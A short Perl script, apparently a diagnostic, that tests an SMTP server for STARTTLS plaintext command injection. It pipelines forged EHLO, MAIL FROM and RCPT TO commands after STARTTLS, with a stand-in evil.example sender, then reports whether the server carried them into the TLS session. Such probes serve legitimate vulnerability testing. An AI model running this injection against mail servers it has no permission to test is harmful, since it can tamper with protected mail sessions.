#!/usr/bin/perl
# Sends STARTTLS and more commands in one segment, then does the handshake, and
# tells what the server made of them: inject.pl HOST:PORT CA-FILE
use strict;
use warnings;
use IO::Socket::INET;
use IO::Socket::SSL;

my ($address, $ca) = @ARGV;
my $s = IO::Socket::INET->new(PeerAddr => $address, Timeout => 10)
    or die "connect: $!\n";
$s->autoflush(1);
$s->timeout(10);

sub reply {
    my $line;
    do { $line = <$s>; defined $line or die "closed\n" } while $line =~ /^\d{3}-/;
    return $line;
}

reply();
print $s "EHLO evil.example\r\n";
reply();
print $s "STARTTLS\r\nEHLO injected.example\r\nMAIL FROM:<evil\@evil.example>\r\n"
    . "RCPT TO:<joe\@auth.example>\r\nDATA\r\n";
my $line = reply();
print $line;
my $more = '';
my $bits = '';
vec($bits, fileno($s), 1) = 1;
sysread($s, $more, 4096) if select($bits, undef, undef, 1);
printf "in plain: %d more\n", length $more;
IO::Socket::SSL->start_SSL($s, SSL_ca_file => $ca, SSL_verifycn_name => 'localhost',
    SSL_verifycn_scheme => 'smtp')
    or die "handshake: $SSL_ERROR\n";
print $s "RCPT TO:<joe\@auth.example>\r\n";
print "inside: ", scalar <$s>;
print $s "QUIT\r\n";
